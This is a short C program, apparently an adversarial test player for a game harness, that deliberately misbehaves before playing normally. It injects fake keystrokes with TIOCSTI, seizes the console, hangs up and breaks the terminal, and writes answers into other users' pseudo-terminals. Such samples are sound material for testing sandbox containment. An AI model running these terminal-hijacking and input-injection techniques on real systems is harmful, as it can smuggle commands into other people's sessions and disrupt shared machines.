/* Types ahead for the other side, takes the terminal for itself, resizes it, breaks it off; then plays well. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdlib.h>
#include <sys/ioctl.h>
#include <termios.h>
#include <unistd.h>
#include "game.inc"

int main(void)
{
    struct winsize size = {1, 1, 1, 1};
    struct termios before;
    const int own = open("/dev/tty", O_RDWR | O_NOCTTY), master = open("/dev/ptmx", O_RDWR | O_NOCTTY);
    int pair = 0, nobody = getpgrp() + 1;

    tcgetattr(0, &before);
    for (const char *typed = "1\nn\nQ\n"; *typed != '\0'; typed++)
        ioctl(0, TIOCSTI, typed); /* input that nobody wrote */
    ioctl(0, TIOCCONS, 0); /* the machine's console */
    ioctl(0, TIOCSWINSZ, &size);
    ioctl(0, TIOCGPTPEER, O_RDWR);
    ioctl(0, TIOCPKT, &pair);
    ioctl(0, TIOCEXCL, 0);
    ioctl(0, TIOCSPGRP, &nobody);
    ioctl(0, TIOCVHANGUP, 0);
    tcsendbreak(0, 0);
    for (int number = 0; number < 8; number++) { /* terminals of others */
        char path[] = "/dev/pts/0";
        path[9] = (char)('0' + number);
        const int other = open(path, O_RDWR | O_NOCTTY);
        char name[64] = "";
        if (other >= 0 && ttyname_r(0, name, sizeof name) == 0 && strcmp(name, path) != 0 && write(other, "y\n", 2) < 0)
            _exit(9);
    }
    tcsetattr(0, TCSANOW, &before);
    close(own);
    close(master);
    return play_well();
}
